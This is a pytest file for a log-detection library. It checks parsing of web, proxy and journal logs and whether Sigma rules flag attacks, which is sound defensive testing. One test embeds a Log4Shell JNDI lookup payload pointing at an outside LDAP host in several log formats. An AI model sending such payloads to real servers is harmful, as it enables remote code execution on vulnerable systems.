"""Web, proxy and journal logs: read in parts, damaged, and as the lake and rules see them."""

from __future__ import annotations

import json
from itertools import pairwise
from pathlib import Path
from typing import Any

import pytest
from reading_files import columns, read_text, read_value

from tocsin.lab import RuleSet, Tally, scan
from tocsin.lab.detections import Detection
from tocsin.lab.record import Record
from tocsin.lab.sources.known import sources
from tocsin.lab.sources.rows import record_of

REQUEST = '203.0.113.9 - - [31/Jan/2026:10:00:00 +0100] "GET /a HTTP/1.1" 200 {size}'


def in_parts(name: str, path: Path, cuts: int) -> list[Record]:
    edges = [*range(0, path.stat().st_size, cuts), None]
    events = [event for a, b in pairwise(edges) for event in sources()[name].read(path, Tally(), a or 0, b)]
    return [record_of(event) for event in events]


def test_columns_hold_in_the_parts_that_follow(tmp_path: Path) -> None:
    path = tmp_path / "u_ex260131.log"
    lines = ["#Software: Microsoft Internet Information Services 10.0", "#Date: 2026-01-31 10:00:00",
             "#Fields: time cs-method c-ip", *(f"10:00:{n:02} GET 10.0.0.{n}" for n in range(40)),
             "#Fields: date time cs-uri-stem", *(f"2026-02-01 10:00:{n:02} /{n}.aspx" for n in range(40))]  # fmt: skip
    path.write_text("\r\n".join(lines))
    whole = in_parts("w3c-log", path, 10_000)
    assert (whole[0].time, whole[-1].data["c-uri"]) == ("2026-01-31T10:00:00Z", "/39.aspx")
    for cuts in (13, 97, 500):
        assert in_parts("w3c-log", path, cuts) == whole


def test_a_proxy_that_writes_w3c(tmp_path: Path) -> None:
    path = tmp_path / "proxy"
    path.write_text(
        "#Software: SGOS 6.7\n#Fields: date time time-taken c-ip sc-status s-action cs-method cs-host cs(User-Agent)\n"
        '2026-01-31 10:00:00 1500 10.0.0.5 200 TCP_MISS GET evil.example "Mozilla/5.0 (X; Y)"\n'
    )
    (record,) = in_parts("w3c-log", path, 10_000)
    assert (record.channel, record.data["cs-user-agent"]) == ("web/proxy", "Mozilla/5.0 (X; Y)")
    found = columns(tmp_path, record)
    assert (found["domain"], found["duration"], found["protocol"]) == ("evil.example", 1.5, "http")


@pytest.mark.parametrize(("value", "seconds"), [
    ({"remote_addr": "203.0.113.9", "request": "GET / HTTP/1.1", "status": 200, "request_time": "0.250", "time_iso8601":
      "2026-01-31T10:00:00Z"}, 0.25),
    ({"ts": 1769850000.0, "request": {"remote_ip": "203.0.113.9", "method": "GET", "uri": "/"}, "status": 200, "duration": 0.25},
     0.25),
    ({"StartUTC": "2026-01-31T09:00:00Z", "ClientHost": "203.0.113.9", "RequestMethod": "GET", "RequestPath": "/",
      "DownstreamStatus": 200, "Duration": 250_000_000}, 0.25),
])  # fmt: skip
def test_how_long_requests_took(tmp_path: Path, value: dict[str, Any], seconds: float) -> None:
    found = columns(tmp_path, read_value(tmp_path, value))
    assert (found["duration"], found["src_address"], found["status"]) == (seconds, "203.0.113.9", "200")


@pytest.mark.parametrize("size", ["9" * 5_000, "٣", "1e5"])
def test_numbers_that_are_none_cost_their_line(tmp_path: Path, size: str) -> None:
    _, tally = read_text(tmp_path, "\n".join([REQUEST.format(size=1)] * 3 + [REQUEST.format(size=size)]))
    assert (tally.read, tally.not_understood) == (3, 1)


def entry(number: int, **more: Any) -> bytes:
    fields = {"__REALTIME_TIMESTAMP": str(1767323045000000 + number), "_HOSTNAME": "h", "SYSLOG_IDENTIFIER": "app",
              "MESSAGE": f"m{number}", **more}  # fmt: skip
    return "".join(f"{name}={value}\n" for name, value in fields.items()).encode() + b"\n"


@pytest.mark.parametrize("damage", [
    b"lower=case\n\n", b"NO_EQUALS\n\xff\xff\xff\xff\xff\xff\xff\xffrest\n\n", b"NO_EQUALS\n\x05\0\0\0\0\0\0\0abcdeX\n\n",
    b"\x00\x01garbage\n\n", b"MESSAGE=no time\n\n",
])  # fmt: skip
def test_a_damaged_entry_of_the_journal_costs_itself(tmp_path: Path, damage: bytes) -> None:
    records, tally = read_text(tmp_path, entry(1) + damage + entry(2) + entry(3))
    assert [record.data["message"] for record in records] == ["m1", "m2", "m3"]
    assert (tally.read, tally.not_understood, len(tally.problems)) == (3, 1, 1)


def test_fields_of_the_journal_stay(tmp_path: Path) -> None:
    records, _ = read_text(tmp_path, entry(1, UNIT="x.service", JOB_RESULT="failed", _CMDLINE="/bin/x -y", _PID="7"))
    data = records[0].data
    assert (data["JOB_RESULT"], data["about_unit"], data["cmdline"], data["pid"]) == (
        "failed",
        "x.service",
        "/bin/x -y",
        "7",
    )
    assert columns(tmp_path, records[0])["command_line"] == "/bin/x -y"


def test_audit_records_of_the_journal(tmp_path: Path) -> None:
    more = {"_TRANSPORT": "audit", "_AUDIT_TYPE_NAME": "SYSCALL", "_AUDIT_ID": "9"}
    message = 'SYSCALL arch=c000003e syscall=59 success=yes uid=0 exe="/bin/id"'
    records, _ = read_text(tmp_path, entry(1, MESSAGE=message, **more))
    assert (records[0].channel, records[0].host) == ("linux/auditd", "h")
    assert (records[0].data["SYSCALL"], records[0].data["exe"]) == ("execve", "/bin/id")


def test_rules_for_web_servers_fire_on_a_real_log(shared: Path, sigmahq: RuleSet) -> None:
    folder = shared / "evtx-attack-samples/Command and Control"
    found: list[Detection] = []
    logs = [folder / "web_attack_and_isp_webshell_localhost_access_log.txt", folder / "Tunna_rdp_tunnel_IIS.log"]
    report = scan(logs, sigmahq, jobs=1, sink=found.extend)
    assert (report.records, report.not_understood) == (2_661 + 4_298, 0)
    titles = {each.title for each in found}
    assert {"Cross Site Scripting Strings", "Path Traversal Exploitation Attempts"} <= titles
    assert {each.channel for each in found} == {"web/access"}


def test_a_made_attack_is_found_in_every_form_of_web_log(tmp_path: Path, sigmahq: RuleSet) -> None:
    uri = "/index.php?x=${jndi:ldap://203.0.113.7/a}"
    forms = {
        "access": f'203.0.113.9 - - [31/Jan/2026:10:00:00 +0100] "GET {uri} HTTP/1.1" 200 1 "-" "curl/8"\n',
        "iis": f"#Fields: date time cs-method cs-uri-stem cs-uri-query c-ip sc-status\n2026-01-31 10:00:00 GET /index.php"
               f" {uri.partition('?')[2]} 203.0.113.9 200\n",
        "json": json.dumps({"remote_addr": "203.0.113.9", "request": f"GET {uri} HTTP/1.1", "status": 200,
                            "time_iso8601": "2026-01-31T10:00:00Z"}),
    }  # fmt: skip
    for name, content in forms.items():
        (tmp_path / name).write_text(content)
        found: list[Detection] = []
        scan([tmp_path / name], sigmahq, jobs=1, sink=found.extend)
        assert any("Log4j" in each.title for each in found), name
